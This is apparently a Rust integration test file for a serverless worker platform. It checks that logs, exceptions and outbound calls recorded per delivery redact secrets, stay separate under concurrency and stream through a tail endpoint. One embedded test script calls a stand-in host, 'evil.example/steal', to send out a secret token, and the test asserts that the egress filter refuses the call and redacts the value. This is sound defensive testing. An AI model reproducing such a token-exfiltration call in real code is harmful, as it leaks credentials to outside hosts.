//! Recorded deliveries: logs, exceptions and outbound calls of one request, redacted.

use crate::support::{Fixture, answering};
use http::Method;
use patchbay_platform::local_api::{Answerer, BodyContent, Observations, RegisteredDelivery, TailEvent};
use serde_json::json;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

async fn register(fixture: &Fixture) -> RegisteredDelivery {
    serde_json::from_value(fixture.local(Method::POST, "/deliveries", "").await.json()).expect("a delivery")
}

async fn observations(fixture: &Fixture, delivery: &RegisteredDelivery) -> Observations {
    let path = format!("/deliveries/{}/observations?wait_ms=20000", delivery.delivery);
    serde_json::from_value(fixture.local(Method::GET, &path, "").await.json()).expect("observations")
}

const SOURCE: &str = "export default { async fetch(request, env) {
    console.log('token is', env.TOKEN, { nested: env.TOKEN });
    console.warn('headers', [...request.headers.keys()].join());
    const made = await fetch('https://api.notion.com/v1/pages', { method: 'POST', body: JSON.stringify({ key: env.TOKEN }),
        headers: { authorization: `Bearer ${env.TOKEN}`, 'content-type': 'application/json' } });
    const refused = await fetch('https://evil.example/steal?token=' + encodeURIComponent(env.TOKEN));
    return Response.json({ made: made.status, marks: [...made.headers.keys()].filter((name) => name.startsWith('x-patchbay')), refused: refused.status,
        headers: [...request.headers.keys()] });
} }";

#[tokio::test]
async fn a_recorded_delivery_tells_everything_but_the_secret() {
    let fixture = Fixture::start().await;
    let routing = json!({ "tenants": { "customer-a": { "egress": ["api.notion.com"] } } });
    fixture.local(Method::PUT, "/routing", routing.to_string()).await;
    let canary = ["canary", "delivery+1"].join("/");
    let bindings = json!([{ "name": "TOKEN", "type": "secret_text", "text": canary }]);
    let version = fixture.publish("customer-a-notion", SOURCE, bindings).await;

    let delivery = register(&fixture).await;
    let answer = fixture.deliver("customer-a", "notion", &[(&delivery.header, &delivery.value)], "{}").await.json();
    assert_eq!((&answer["made"], &answer["refused"]), (&json!(201), &json!(403)));
    assert_eq!(answer["marks"], json!([]), "the adapter sees no header of the platform in an answer");
    assert!(!answer["headers"].to_string().contains("x-patchbay"), "nor in the request: {answer}");

    let seen = observations(&fixture, &delivery).await;
    assert!(seen.complete);
    let [tail] = &seen.tail[..] else { panic!("one request, one report: {:?}", seen.tail) };
    assert_eq!(tail.served_by.version, version);
    assert_eq!(tail.delivery.as_ref(), Some(&delivery.delivery));
    assert_eq!((tail.outcome.as_str(), tail.status), ("ok", Some(200)));
    assert_eq!(tail.logs[0].message, r#"token is <redacted:TOKEN> {"nested":"<redacted:TOKEN>"}"#);
    assert_eq!(tail.logs[1].level, "warn");
    assert!(!tail.logs[1].message.contains("x-patchbay"), "{}", tail.logs[1].message);
    assert!(tail.wall_ms > 0.0 && tail.wall_ms < 20_000.0, "{}", tail.wall_ms);

    let [made, refused] = &seen.outbound[..] else { panic!("two calls: {:?}", seen.outbound) };
    assert_eq!((made.answered_by, made.response.status), (Answerer::Simulated, 201));
    assert_eq!(made.request.body, BodyContent::Text(r#"{"key":"<redacted:TOKEN>"}"#.into()));
    let authorization = made.request.headers.iter().find(|(name, _)| name == "authorization").expect("is recorded");
    assert_eq!(authorization.1, "Bearer <redacted:TOKEN>");
    assert!(!made.response.headers.iter().any(|(name, _)| name.starts_with("x-patchbay")));
    assert_eq!((refused.answered_by, refused.response.status), (Answerer::Refused, 403));
    assert_eq!(refused.request.url, "https://evil.example/steal?token=<redacted:TOKEN>");
    let whole = serde_json::to_string(&seen).expect("serialises");
    assert!(!whole.contains("canary"), "no form of the value is left: {whole}");
    let (context, call) = fixture.gateway.calls.lock().expect("not poisoned")[0].clone();
    assert_eq!(context.delivery.as_ref(), Some(&delivery.delivery));
    assert!(String::from_utf8_lossy(&call.body).contains(&canary), "the upstream itself gets the real value");
}

#[tokio::test]
async fn deliveries_at_the_same_time_are_told_apart() {
    let fixture = Fixture::start().await;
    let source = "export default { async fetch(request, env, ctx) {
        const id = await request.text();
        console.log(id);
        await Promise.all([1, 2].map((call) => fetch(`https://api.example/${id}/${call}`)));
        ctx.waitUntil((async () => { await fetch(`https://api.example/${id}/late`); console.log(`late ${id}`); })());
        return new Response(id);
    } }";
    fixture.publish("customer-a-notion", source, json!([])).await;
    let one = async |number: usize| {
        let delivery = register(&fixture).await;
        let id = format!("id{number}");
        let answer = fixture.deliver("customer-a", "notion", &[(&delivery.header, &delivery.value)], &id).await;
        assert_eq!(answer.text(), id);
        let seen = observations(&fixture, &delivery).await;
        assert!(seen.complete, "{seen:?}");
        let logs: Vec<_> = seen.tail.iter().flat_map(|tail| &tail.logs).map(|line| line.message.clone()).collect();
        assert_eq!(logs, [id.clone(), format!("late {id}")]);
        let mut urls: Vec<_> = seen.outbound.iter().map(|call| call.request.url.clone()).collect();
        urls.sort();
        assert_eq!(
            urls,
            [1.to_string(), 2.to_string(), "late".into()].map(|call| format!("https://api.example/{id}/{call}"))
        );
    };
    // More than there are lanes, so that some wait and lanes are used again.
    futures_util::future::join_all((0..40).map(one)).await;
}

#[tokio::test]
async fn an_exception_is_reported_with_the_authors_position() {
    let fixture = Fixture::start().await;
    let source = "export default {\n  fetch() {\n    throw new RangeError('too far');\n  }\n}";
    fixture.publish("customer-a-broken", source, json!([])).await;
    let delivery = register(&fixture).await;
    fixture.deliver("customer-a", "broken", &[(&delivery.header, &delivery.value)], "").await;
    let seen = observations(&fixture, &delivery).await;
    let exception = &seen.tail[0].exceptions[0];
    assert_eq!((exception.name.as_str(), exception.message.as_str()), ("RangeError", "too far"));
    assert!(exception.stack.contains("index.js:3:11"), "{}", exception.stack);
    assert_eq!(seen.tail[0].outcome, "exception");
}

#[tokio::test]
async fn a_delivery_whose_process_dies_is_reported_as_incomplete() {
    let fixture = Fixture::start().await;
    let source =
        "export default { async fetch() { await fetch('https://api.example/first'); await new Promise(() => {}); } }";
    fixture.publish("customer-a-stuck", source, json!([])).await;
    let delivery = register(&fixture).await;
    let headers = [(delivery.header.as_str(), delivery.value.as_str())];
    let killing = async {
        // The runtime notices a promise that nobody can settle; so the process is killed as soon as the call is out.
        while fixture.gateway.calls.lock().expect("not poisoned").is_empty() {
            tokio::task::yield_now().await;
        }
        let tenant = fixture.process("tenant").await;
        let pid = rustix::process::Pid::from_raw(i32::try_from(tenant.pid.expect("runs")).expect("a pid"));
        rustix::process::kill_process(pid.expect("a pid"), rustix::process::Signal::KILL).expect("kills");
    };
    let (answer, ()) = tokio::join!(fixture.deliver("customer-a", "stuck", &headers, ""), killing);
    assert_eq!(answer.status, 500);
    let since = std::time::Instant::now();
    let seen = observations(&fixture, &delivery).await;
    assert!(since.elapsed() < std::time::Duration::from_secs(10), "nobody waits for what cannot come");
    assert_eq!(seen.outbound.len(), 1, "what was seen before stays");
}

#[tokio::test]
async fn a_delivery_that_reaches_no_script_ends_with_its_answer() {
    let fixture = Fixture::start().await;
    let delivery = register(&fixture).await;
    let headers = [(delivery.header.as_str(), delivery.value.as_str())];
    fixture.deliver("customer-a", "missing", &headers, "").await;
    let path = format!("/deliveries/{}/observations?wait_ms=60000&answered=true", delivery.delivery);
    let since = std::time::Instant::now();
    let seen: Observations =
        serde_json::from_value(fixture.local(Method::GET, &path, "").await.json()).expect("parses");
    assert_eq!(seen, Observations { complete: true, tail: vec![], outbound: vec![] });
    assert!(since.elapsed() < std::time::Duration::from_secs(30), "nobody waits for what cannot come");
}

#[tokio::test]
async fn nobody_can_make_up_a_delivery() {
    let fixture = Fixture::start().await;
    fixture.publish("customer-a-notion", &answering("ok"), json!([])).await;
    let delivery = register(&fixture).await;
    let guessed = format!("{}.{}", delivery.delivery, "0".repeat(32));
    fixture.deliver("customer-a", "notion", &[(&delivery.header, &guessed)], "").await;
    let path = format!("/deliveries/{}/observations?wait_ms=0", delivery.delivery);
    let seen: Observations =
        serde_json::from_value(fixture.local(Method::GET, &path, "").await.json()).expect("parses");
    assert_eq!(seen, Observations { complete: false, tail: vec![], outbound: vec![] });
    assert_eq!(fixture.local(Method::GET, "/deliveries/unknown/observations", "").await.status, 404);
}

#[tokio::test]
async fn the_tail_streams_what_scripts_log() {
    let fixture = Fixture::start().await;
    let source =
        "export default { async fetch(request) { console.log(await request.text()); return new Response('ok') } }";
    for script in ["customer-a-notion", "customer-b-notion"] {
        fixture.publish(script, source, json!([])).await;
    }
    let base = fixture.platform.api_url().trim_end_matches("/client/v4").trim_start_matches("http://").to_owned();
    let mut stream = tokio::net::TcpStream::connect(&base).await.expect("connects");
    let open = format!(
        "GET /patchbay/v1/tail?script=customer-b-notion HTTP/1.1\r\nHost: {base}\r\nAuthorization: {}\r\n\r\n",
        fixture.bearer()
    );
    tokio::io::AsyncWriteExt::write_all(&mut stream, open.as_bytes()).await.expect("writes");
    let mut lines = tokio::io::AsyncBufReadExt::lines(tokio::io::BufReader::new(stream));
    while !lines.next_line().await.expect("reads").expect("a head").is_empty() {}
    fixture.deliver("customer-a", "notion", &[], "not this one").await;
    fixture.deliver("customer-b", "notion", &[], "this one").await;
    let event = loop {
        let line = tokio::time::timeout(std::time::Duration::from_secs(20), lines.next_line()).await;
        let line = line.expect("an event comes").expect("reads").expect("is not over");
        // Lines between are the lengths of chunks.
        if let Ok(event) = serde_json::from_str::<TailEvent>(&line) {
            break event;
        }
    };
    assert_eq!(event.served_by.script, "customer-b-notion");
    assert_eq!(event.logs[0].message, "this one");
    assert_eq!(event.delivery, None);
}

#[tokio::test]
async fn whoever_watches_sees_every_request_from_then_on() {
    let fixture = Fixture::start().await;
    fixture.publish("customer-a-quiet", &answering("here"), json!([])).await;
    let api = fixture.platform.api_url();
    let address = api.trim_start_matches("http://").trim_end_matches("/client/v4").to_owned();
    for round in 0..3 {
        // Nobody watches, so that processes need not tell of it.
        assert_eq!(fixture.deliver("customer-a", "quiet", &[], "").await.text(), "here");
        let mut tail = TcpStream::connect(&address).await.expect("connects");
        let head =
            format!("GET /patchbay/v1/tail HTTP/1.1\r\nHost: {address}\r\nAuthorization: {}\r\n\r\n", fixture.bearer());
        tail.write_all(head.as_bytes()).await.expect("writes");
        let mut seen = Vec::new();
        while !seen.ends_with(b"\r\n\r\n") {
            seen.push(tail.read_u8().await.expect("reads"));
        }
        for _ in 0..5 {
            assert_eq!(fixture.deliver("customer-a", "quiet", &[], "").await.text(), "here");
        }
        let told = |seen: &[u8]| String::from_utf8_lossy(seen).matches("\"outcome\":\"ok\"").count();
        while told(&seen) < 5 {
            let chunk = tokio::time::timeout(Duration::from_secs(20), tail.read_buf(&mut seen)).await;
            chunk.unwrap_or_else(|_| panic!("round {round}: {} of 5 were told", told(&seen))).expect("reads");
        }
    }
}

#[tokio::test]
async fn a_refused_call_too_long_to_be_reported_leaves_its_delivery_incomplete() {
    let fixture = Fixture::start().await;
    let routing = json!({ "tenants": { "customer-a": { "egress": ["allowed.example"] } } });
    fixture.local(Method::PUT, "/routing", routing.to_string()).await;
    let source = "export default { async fetch(request) {
        const body = new Uint8Array(Number(await request.text()));
        return Response.json((await fetch('https://foreign.example/', { method: 'POST', body })).status);
    } }";
    fixture.publish("customer-a-large", source, json!([])).await;
    for (size, complete) in [(1 << 20, true), (30 << 20, false)] {
        let delivery = register(&fixture).await;
        let headers = [(delivery.header.as_str(), delivery.value.as_str())];
        let answer = fixture.deliver("customer-a", "large", &headers, &size.to_string()).await;
        assert_eq!(answer.json(), json!(403), "the script has its answer");
        let seen = observations(&fixture, &delivery).await;
        assert_eq!((seen.complete, seen.outbound.len()), (complete, usize::from(complete)), "{size}");
    }
}
